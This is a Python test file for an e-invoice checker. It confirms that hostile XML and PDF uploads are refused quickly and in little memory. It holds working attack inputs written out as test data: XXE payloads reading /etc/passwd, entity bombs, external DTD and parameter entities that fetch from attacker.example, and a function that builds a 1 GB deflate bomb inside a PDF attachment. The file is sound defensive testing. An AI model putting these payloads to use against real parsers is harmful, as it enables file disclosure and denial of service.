"""Hostile input gets a clear `UnreadableInvoice`, quickly and without large memory: XXE, entity bombs,
oversized XML, PDFs with a broken or exploding attachment. Harmless PDFs without invoice data are paper-like."""

from __future__ import annotations

import time
import tracemalloc
import zlib

import pytest

from intake.einvoice import Checker, UnreadableInvoice
from tests.unit.test_einvoice_parse import sample_ubl

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&xxe;</ID></Invoice>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % r SYSTEM "http://attacker.example/x"> %r;]><d/>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd"><Invoice/>"""
UTF16_XXE = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
             "<d>&a;</d>").encode("utf-16")


def pdf_with_attachment(name: str, data: bytes, stream_entries: str = "/Filter /FlateDecode") -> bytes:
    """A one-page PDF whose name tree holds one embedded file with the given (raw, encoded) stream data."""
    label = name.encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(" + label + b") 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /Type /Filespec /F (" + label + b") /UF (" + label + b") /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length " + str(len(data)).encode() + b" " + stream_entries.encode()
        + b" >>\nstream\n" + data + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def deflate_bomb(expanded_mb: int) -> bytes:
    """A zlib stream that inflates to `expanded_mb` MB of zeros, built from one repeated flushed block (~1 KB/MB)."""
    compressor = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    return first + repeated * (expanded_mb - 1) + compressor.flush()


def _refusal(content: bytes, checker: Checker | None = None) -> str:
    with pytest.raises(UnreadableInvoice) as info:
        (checker or Checker(None)).check(content, "evil.xml")
    assert info.value.filename == "evil.xml"
    return info.value.message


@pytest.mark.parametrize(
    ("content", "needle"),
    [(XXE, "entities"), (LAUGHS, "entities"), (PARAMETER_ENTITY, "entities"), (EXTERNAL_DTD, "DOCTYPE"),
     (UTF16_XXE, "DOCTYPE")],
    ids=["xxe", "billion-laughs", "parameter-entity", "external-dtd", "utf16-xxe"],
)
def test_entities_and_doctypes_are_refused_before_anything_is_expanded(content: bytes, needle: str) -> None:
    assert needle in _refusal(content)


def test_an_oversized_xml_is_refused_by_its_size_alone() -> None:
    big = b"<Invoice>" + b"x" * (20 * 1024 * 1024) + b"</Invoice>"
    started = time.perf_counter()
    message = _refusal(big)
    assert time.perf_counter() - started < 0.5
    assert "more than the limit of 20,971,520" in message


def test_neither_xml_nor_pdf_is_unreadable() -> None:
    assert "neither XML nor PDF" in _refusal(b"PK\x03\x04 a zip file")


def test_a_zip_bomb_attachment_stops_at_the_limit_quickly_and_in_little_memory() -> None:
    pdf = pdf_with_attachment("factur-x.xml", deflate_bomb(1024))  # 1 GB of zeros in about 1 MB
    assert len(pdf) < 2 * 1024 * 1024
    tracemalloc.start()
    started = time.perf_counter()
    try:
        message = _refusal(pdf)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 5
    assert peak < 120 * 1024 * 1024
    assert "factur-x.xml cannot be decoded" in message and "compression bomb" in message


def test_a_broken_attachment_stream_is_refused() -> None:
    message = _refusal(pdf_with_attachment("factur-x.xml", b"\x78\x9c this is not deflate data at all"))
    assert "embedded factur-x.xml cannot be decoded" in message


def test_a_declared_oversized_attachment_is_refused_before_decoding() -> None:
    pdf = pdf_with_attachment("zugferd-invoice.xml", b"<x/>", "/Params << /Size 999999999 >>")
    assert "zugferd-invoice.xml cannot be decoded: declares 999,999,999 bytes" in _refusal(pdf)


def test_an_unopenable_pdf_is_unreadable() -> None:
    assert "PDF cannot be read" in _refusal(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R\n")


def test_an_attached_invoice_is_found_and_checked() -> None:
    pdf = pdf_with_attachment("factur-x.xml", zlib.compress(sample_ubl()))
    result = Checker(None).check(pdf, "rechnung.pdf")
    assert result.syntax == "PDF-embedded-UBL" and result.valid and not result.paper_like
    assert result.xml == sample_ubl()
    assert result.invoice is not None and result.invoice.number == "R-2026-0042"


def test_a_pdf_without_invoice_data_is_paper_like_not_rejected() -> None:
    result = Checker(None).check(pdf_with_attachment("notes.txt", b"hello", ""), "scan.pdf")
    assert result.paper_like and result.syntax == "PDF-paper" and not result.valid
    assert result.errors == [] and result.invoice is None
